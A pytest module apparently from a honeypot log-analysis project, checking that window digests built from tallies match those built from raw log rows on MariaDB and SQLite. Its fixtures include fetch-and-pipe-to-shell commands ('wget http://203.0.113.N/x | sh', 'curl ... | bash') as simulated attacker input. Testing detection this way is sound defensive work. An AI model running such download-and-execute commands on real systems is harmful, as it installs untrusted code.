"""The digest from the window's tallies equals the digest from its rows, on MariaDB and SQLite.

The rows' digest (`window_rows`, the original queries) is the oracle. Hostile and odd values
throughout: NULLs, unicode, case variants, very long commands and URLs, more distinct IPs
than any top list keeps, ties in counts, and one object's values spread over several objects.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, select

from rbr_analyst.handlers import note_object
from rbr_analyst.store import AnalystStore
from rbr_analyst.window_digest import Digest, DigestBuilder
from rbr_analyst.window_tallies import forget_window
from rbr_analyst.windows import Window
from rbr_runtime.db.engine import make_engine
from rbr_runtime.db.migrate import upgrade
from rbr_runtime.db.tables import logs
from rbr_schemas import LogsParsed, utcnow
from rbr_testing.logrows import insert_rows, log_row

from .conftest import INTERVAL, WINDOW_START

BUCKET = "rustbucket-a"
WINDOW = Window.starting(BUCKET, WINDOW_START, INTERVAL)
LONG_COMMAND = "echo " + "x" * 5000
ROWS_PER_OBJECT = 56
# "root " is "root" to MariaDB (PAD SPACE) and another name to SQLite: the tallies must agree.
USERNAMES = ["root", "Root", "root ", "рут", "管理员", "admin\u202e", "user 😈", "", None]


@pytest.fixture(params=[pytest.param("mariadb", marks=pytest.mark.mariadb), "sqlite"])
def engine(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Engine]:
    if request.param == "mariadb":
        yield request.getfixturevalue("mysql_engine")
        return
    url = f"sqlite:///{tmp_path / 'rbr.db'}"
    upgrade(url)
    sqlite_engine = make_engine(url)
    yield sqlite_engine
    sqlite_engine.dispose()


def object_rows(
    number: int, created_at: datetime, rows: list[dict[str, Any]]
) -> list[dict[str, Any]]:
    """Makes the rows one parsed object: one sha256, one ingestion moment, records numbered."""
    sha256 = hashlib.sha256(f"object-{number}".encode()).hexdigest()
    for record_no, row in enumerate(rows):
        row.update(source_sha256=sha256, created_at=created_at, record_no=record_no)
    return rows


def hostile_object(number: int, created_at: datetime) -> list[dict[str, Any]]:
    """An object of odd values; objects overlap in values, so tallies add up across them."""
    rows: list[dict[str, Any]] = []
    for i in range(40):
        # 60 distinct IPs over the objects, two per count at most: ties everywhere.
        ip = f"198.51.100.{(number * 7 + i) % 60}" if i % 9 else None
        username = USERNAMES[(number + i) % len(USERNAMES)]
        kind = ["login_failed", "invalid_user", "cowrie.login.failed", "connect"][i % 4]
        rows.append(
            log_row(
                BUCKET,
                created_at,
                kind,
                source_ip=ip,
                username=username,
                password=None if i % 5 == 0 else f"pw-{i % 6}-é",
                session=None if i % 3 == 0 else f"s{(number + i) % 11}",
                event_time=created_at - timedelta(seconds=i * (number + 1)),
            )
        )
    rows += [
        log_row(BUCKET, created_at, "login_success", source_ip=None, username="root"),
        log_row(
            BUCKET,
            created_at,
            "login_success",
            source_ip="198.51.100.1",
            username=USERNAMES[number % 3],
            password="hunter2",
        ),
        log_row(BUCKET, created_at, "command", command=LONG_COMMAND + str(number % 2)),
        log_row(BUCKET, created_at, "command", command="uname -a"),
        log_row(BUCKET, created_at, "command", command="uname -a" + " " * (number % 2)),
        log_row(BUCKET, created_at, "cowrie.command.input", command="UNAME -A"),
        log_row(BUCKET, created_at, "command", command=f"wget http://203.0.113.{number}/x | sh"),
        log_row(BUCKET, created_at, "command_failed", command="curl -s http://x/y | bash"),
        log_row(BUCKET, created_at, "download", url="http://203.0.113.5/b.sh", file_sha256=None),
        log_row(BUCKET, created_at, "upload", url=None, file_sha256="ab" * 32),
        log_row(BUCKET, created_at, "message", file_sha256="cd" * 32),
        log_row(BUCKET, created_at, "http_request", url="/" + "a" * 1500 + str(number % 3)),
        log_row(BUCKET, created_at, "http.access", url="/wp-login.php?ü=1"),
        log_row(BUCKET, created_at, "http_request", url=None, source_ip="203.0.113.9"),
        log_row(BUCKET, created_at, "unparsed", raw="\x1b[31mgarbage\x00 AKIAIOSFODNN7EXAMPLE"),
        log_row(BUCKET, created_at, "Weird.Type", event_time=None),
    ]
    return object_rows(number, created_at, rows)


def fold_everything(store: AnalystStore) -> None:
    """Folds every object in `logs`, as the `logs.parsed` handler does."""
    with store.engine.connect() as connection:
        objects = connection.execute(select(logs.c.name, logs.c.source_sha256).distinct()).all()
    for name, sha256 in objects:
        store.fold_object(name, sha256, INTERVAL)


def both_digests(engine: Engine, top_n: int = 5) -> tuple[Digest, Digest]:
    tallied = DigestBuilder(engine, top_n=top_n, samples=8).build(WINDOW, "192.0.2.10")
    scanned = DigestBuilder(engine, top_n=top_n, samples=8, use_tallies=False).build(
        WINDOW, "192.0.2.10"
    )
    return tallied, scanned


def test_tallies_give_the_digest_the_rows_give(engine: Engine) -> None:
    earlier = WINDOW_START - timedelta(hours=2)
    rows = [
        *object_rows(
            100, earlier, [log_row(BUCKET, earlier, "login_failed", source_ip="198.51.100.3")]
        ),
        *object_rows(
            101,
            WINDOW_START + timedelta(minutes=5),
            [log_row("rustbucket-b", WINDOW_START, "login_failed", source_ip="198.51.100.77")],
        ),
        *object_rows(102, WINDOW.end, [log_row(BUCKET, WINDOW.end, "command", command="ls")]),
    ]
    for number in range(6):
        rows += hostile_object(number, WINDOW_START + timedelta(minutes=10 * number))
    insert_rows(engine, rows)
    store = AnalystStore(engine)
    fold_everything(store)

    tallied, scanned = both_digests(engine)

    assert tallied.read_from == "tallies"
    assert scanned.read_from == "rows"
    assert tallied.as_json() == scanned.as_json()
    # The comparison covers something: the odd values made it into the digest.
    assert tallied.total_rows == 6 * ROWS_PER_OBJECT
    assert tallied.source_ips.distinct > 50
    assert len(tallied.source_ips.items) == 5
    assert "198.51.100.3" not in {item["value"] for item in tallied.new_source_ips.items}
    assert {"root", "Root", "рут"} <= {item["value"] for item in tallied.usernames.items}
    assert tallied.commands.distinct >= 11  # 12 on SQLite: "uname -a " is its own
    assert tallied.flagged_commands


def test_a_replay_folds_nothing_twice(engine: Engine) -> None:
    insert_rows(engine, hostile_object(1, WINDOW_START + timedelta(minutes=1)))
    store = AnalystStore(engine)
    fold_everything(store)
    sha256 = hashlib.sha256(b"object-1").hexdigest()

    assert store.fold_object(BUCKET, sha256, INTERVAL) == 0

    tallied, scanned = both_digests(engine)
    assert tallied.read_from == "tallies"
    assert tallied.as_json() == scanned.as_json()


def test_a_window_with_rows_not_folded_is_digested_from_its_rows(engine: Engine) -> None:
    insert_rows(engine, hostile_object(1, WINDOW_START + timedelta(minutes=1)))
    fold_everything(AnalystStore(engine))
    insert_rows(engine, hostile_object(2, WINDOW_START + timedelta(minutes=2)))  # not folded

    tallied, scanned = both_digests(engine)

    assert tallied.read_from == "rows"
    assert tallied.as_json() == scanned.as_json()
    assert tallied.total_rows == 2 * ROWS_PER_OBJECT


def test_forgotten_tallies_leave_the_rows(engine: Engine) -> None:
    insert_rows(engine, hostile_object(1, WINDOW_START + timedelta(minutes=1)))
    fold_everything(AnalystStore(engine))
    with engine.begin() as connection:
        forget_window(connection, WINDOW)

    digest = DigestBuilder(engine).build(WINDOW, "192.0.2.10")

    assert digest.read_from == "rows"
    assert digest.total_rows == ROWS_PER_OBJECT


def test_the_parsed_handler_folds_each_object_once(store: AnalystStore) -> None:
    created_at = WINDOW_START + timedelta(minutes=1)
    insert_rows(store.engine, hostile_object(1, created_at))
    sha256 = hashlib.sha256(b"object-1").hexdigest()
    parsed = LogsParsed(
        object_id="object-1",
        name=BUCKET,
        s3_bucket="rbr-raw-logs",
        s3_key=f"raw/{BUCKET}/object-1.log",
        sha256=sha256,
        records=ROWS_PER_OBJECT,
        rows_inserted=ROWS_PER_OBJECT,
        duplicates_skipped=0,
        unparsed_records=0,
        parsed_at=utcnow(),
    )

    note_object(store, parsed, INTERVAL, created_at)
    note_object(store, parsed, INTERVAL, created_at)  # a replay

    tallied, scanned = both_digests(store.engine)
    assert tallied.read_from == "tallies"
    assert tallied.as_json() == scanned.as_json()
    assert tallied.total_rows == ROWS_PER_OBJECT
